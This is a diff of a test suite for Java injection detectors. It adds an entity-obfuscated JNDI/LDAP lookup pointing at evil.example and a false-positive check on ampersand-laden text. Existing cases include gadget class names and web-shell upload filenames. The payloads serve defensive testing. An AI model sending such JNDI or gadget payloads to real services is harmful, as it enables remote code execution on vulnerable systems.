@@ -19,6 +19,7 @@ describe("Java injection detectors", () => {
     ["sn-java-gadget-class", json({ "org.apache.commons.collections.functors.InvokerTransformer": {} })],
     ["sn-java-gadget-class", query("ognl.OgnlContext")],
     ["sn-java-jndi", query("$&lbrace;jndi:ldap://evil.example/a}")],
+    ["sn-java-jndi", query("$&lbracejndi&colon;ldap://evil.example/a}")],
     ["sn-java-upload", header("x-filename", "cmd. jsp")],
     ["sn-java-upload", header("x-file-name", "app.war")],
   ])("%s fires on %#", (id, event) => {
@@ -32,6 +33,7 @@ describe("Java injection detectors", () => {
     ["a domain name", query("https://java.com/en/download and commons.apache.org")],
     ["a Maven coordinate in prose", query("add the dependency commons-io 2.16")],
     ["an ordinary upload", header("x-filename", "notes.java.txt")],
+    ["ampersands run into words", query("Tom&Jerry, R&D, AT&T&colonel, fish&chips &dollarstore")],
   ])("stays quiet on %s", (_label, event) => {
     expect(javaIds(event)).toEqual([]);
   });
